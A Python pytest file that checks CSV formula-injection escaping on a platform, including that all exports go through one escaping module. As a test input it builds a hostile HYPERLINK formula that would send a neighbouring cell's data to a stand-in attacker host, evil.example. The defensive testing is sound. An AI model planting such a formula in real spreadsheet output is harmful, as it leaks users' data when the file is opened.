"""Formula escaping has one owner (core.spreadsheets) and every CSV the platform writes goes through it."""

import csv
import io
import re
from pathlib import Path

import pytest

import defdays
from defdays.core.spreadsheets import csv_text, escape_cell, starts_like_formula

SOURCE = Path(defdays.__file__).parent
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("lead", DANGEROUS)
def test_each_formula_lead_is_neutralised(lead):
    value = lead + 'HYPERLINK("https://evil.example/?"&A2,"x")'
    assert starts_like_formula(value)
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain", "a=b", "1+1", "name@example.org", " =space first", "", None, 12])
def test_ordinary_cells_stay_as_they_are(value):
    assert not starts_like_formula(value)
    assert escape_cell(value) == ("" if value is None else str(value))


def test_the_writer_escapes_header_and_rows():
    text = csv_text(["=h", "ok"], [["@SUM(A1)", "-2"], ["+1", None]])
    assert list(csv.reader(io.StringIO(text))) == [["'=h", "ok"], ["'@SUM(A1)", "'-2"], ["'+1", ""]]


def test_no_module_writes_csv_or_checks_formulas_on_its_own():
    """A new export that builds its own csv.writer (or its own list of formula leads) would skip the escaping."""
    own = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\(\s*\"=\",\s*\"\+\"")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if path.name != "spreadsheets.py" and own.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
